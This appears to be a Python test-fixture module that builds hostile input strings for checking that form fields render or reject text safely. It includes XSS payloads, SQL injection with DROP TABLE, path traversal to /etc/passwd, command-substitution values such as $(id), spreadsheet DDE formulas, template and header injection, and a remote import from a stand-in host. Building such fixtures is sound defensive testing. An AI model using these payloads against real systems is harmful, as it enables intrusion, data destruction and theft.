"""Texts that harm whoever takes them for more than text: each is to be shown as it was typed, or refused in words."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerdown")
TAGS = (
    "img",
    "svg",
    "iframe",
    "body",
    "input autofocus",
    "details open",
    "video",
    "math",
    "object",
    "embed",
    "marquee",
)
SCRIPTS = ("alert(1)", "alert`1`", "import('//x.example')", "top[/al/.source+/ert/.source](1)")
FORMULAS = ("cmd|' /C calc'!A0", "1+1", 'HYPERLINK("http://x.example","押す")', "SUM(A1:A9)*0", "@SUM(1)", "DDE(1)")

MARKUP = (
    *(f"<script>{script}</script>" for script in SCRIPTS),
    *(f"<{tag} src=x {event}=alert(1)>" for tag, event in product(TAGS, EVENTS[:3])),
    *(f"'\"><b {event}=alert(1)>" for event in EVENTS),
    *(f'" {event}="alert(1)' for event in EVENTS),
    *("</textarea><b>", "</title><script>", "</select><option>", "</template><p>", "</script><script>", "</style><b>"),
    *(
        "<!--",
        "-->",
        "--!>",
        "<![CDATA[x]]>",
        "<?xml?>",
        "<!DOCTYPE x>",
        "<b",
        "<B>x</B >",
        "< script>",
        "<scr<script>ipt>",
    ),
    *(
        "<a href=javascript:alert(1)>x</a>",
        "<form action=//x.example>",
        "<base href=//x.example/>",
        "<meta http-equiv=refresh>",
    ),
    *(
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//x>",
        "<x-y is=z>",
        "<svg/onload=alert(1)>",
        "<b/hx-get=/>",
    ),
    *(
        "＜script＞",
        "＂onload＝",
        "\u2039script\u203a",
        "%3Cscript%3E",
        "\\u003cscript\\u003e",
        "\\x3cb\\x3e",
        "+ADw-b+AD4-",
    ),
)
ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\u200bscript:alert(1)", "vbscript:x", "data:text/html,<b>x"),
    *(
        "//x.example/",
        "http://a@b:80/",
        "file:///etc/passwd",
        "../../etc/passwd",
        "..\\..\\win.ini",
        "%2e%2e%2f",
        "....//",
    ),
    *(
        "C:\\AUX",
        "NUL.txt",
        "/dev/null",
        "a/b\\c:d*e?f|g",
        "x.php%00.png",
        "~root",
        "$HOME",
        "`id`",
        "$(id)",
        "| ls",
        "&& dir",
    ),
)
ENTITIES = (
    "&lt;b&gt;",
    "&amp;amp;",
    "&#60;",
    "&#x3c;",
    "&nbsp;",
    "&quot;",
    "&",
    "&&",
    "&notit;",
    "&lt",
    "&copy",
    "&#0;",
)
TEMPLATES = (
    *(
        "{{ 7 }}",
        "{{ request.user.password }}",
        "{% now 'Y' %}",
        "{% load x %}",
        "{# x #}",
        "{%",
        "}}",
        "${7*7}",
        "#{7*7}",
    ),
    *(
        "<%= 7 %>",
        "[[7]]",
        "%s",
        "%(name)s",
        "%(n",
        "%",
        "%%",
        "{0}",
        "{name}",
        "{",
        "{}",
        "{!r}",
        "{0.__class__}",
        "$1",
        "\\1",
    ),
)
QUERIES = (
    *(
        "' OR '1'='1",
        "'; DROP TABLE customer; --",
        '" OR ""="',
        "1; SELECT pg_sleep(9)",
        "/* x */",
        "\\'",
        "''",
        "%_",
        "[a-z]",
    ),
    *(
        "a AND b",
        "NEAR(a b)",
        'a"b',
        "a*",
        "^a",
        "name:a",
        "-a",
        "(a",
        "a)",
        "NULL",
        "null",
        "None",
        "undefined",
        "NaN",
        "true",
    ),
)
TYPST = (
    *(
        "#let x = 1",
        '#read("/etc/passwd")',
        '#image("x")',
        "*太字*",
        "_斜体_",
        "$x^2$",
        "`raw`",
        "```",
        "= 見出し",
        "- 箇条",
    ),
    *(
        "+ 番号",
        "/ 用語: 意味",
        "<label>",
        "@ref",
        "\\",
        "\\#",
        "//注",
        "/* 注 */",
        "https://x.example/",
        "~",
        "--",
        "---",
        "...",
    ),
    *("#", "##", "]", "[", "#[", "#{", "#emoji.face", "1. 一", '"引用"', "'引用'"),
)
SIGNS = (
    *(
        "\u202eめいれい\u202c",
        "\u2066隔離\u2069",
        "\u200fעברית",
        "مرحبا",
        "ลิงก์",
        "a\u200bb",
        "a\u200db",
        "a\ufeffb",
        "a\u00adb",
    ),
    *(
        "𠮷野家",
        "髙橋",
        "﨑",
        "祇\U000e0100",
        "葛\U000e0101",
        "か\u3099",
        "e\u0301\u0323\u0302",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤",
        "ﬁ",
        "ｶﾞ",
        "㈱",
        "㍻",
        "①",
    ),
    *(
        "👨‍👩‍👧",
        "🏳️‍🌈",
        "👍🏽",
        "🇯🇵",
        "0️⃣",
        "🍣",
        "a\u2028b",
        "a\u2029b",
        "a\u0085b",
        "a\u00a0b",
        "全\u3000角",
        "ａｌｅｒｔ（１）",
    ),
    *(
        "\ue000",
        "\ufffd",
        "\u2060x",
        "I\u0307",
        "ßſ",
        "Ⅷ",
        "〆",
        "ヶ",
        "々",
        "〇",
        "～〜",
        "−ー－",
        "￥¥\\",
        "‥…",
        "゛゜",
    ),
)
LINES = (
    *(
        "a\r\nBcc: x@x.example",
        "a\nSubject: x",
        "a\r\n\r\n<b>",
        "a\n.\n",
        "a\nFrom b",
        "a\tb",
        'a,"b"',
        '"a',
        '"a""b"',
        "a;b",
    ),
)
LEADING = (
    *(f"{sign}{formula}" for sign, formula in product("=+-@", FORMULAS)),
    *("'=1", "''", "'x", "＝1+1", "＋1", "＠x", "－1"),
)
LONG = ("長" * 90, "W" * 90, "ﾜ" * 90)

ONE_LINE = (*MARKUP, *ADDRESSES, *ENTITIES, *TEMPLATES, *QUERIES, *TYPST, *SIGNS)
EVERY = (*ONE_LINE, *LINES, *LEADING, *LONG)
SEPARATOR = " "
# No form takes these.
UNPRINTABLE = ("\0", "a\0b", "\0<script>")


def packs(longest: int, *, lines: bool = False) -> Iterator[str]:
    """Every text that fits, once, several side by side in a value of at most so many characters; formulas begin one."""
    starts = [text for text in LEADING if len(text) <= longest]
    rest = [text for text in (*ONE_LINE, *LONG, *(LINES if lines else ())) if len(text) <= longest]
    while starts or rest:
        pack = [(starts or rest).pop()]
        while rest and len(SEPARATOR.join(pack)) + len(SEPARATOR) + len(rest[-1]) <= longest:
            pack.append(rest.pop())
        yield SEPARATOR.join(pack)
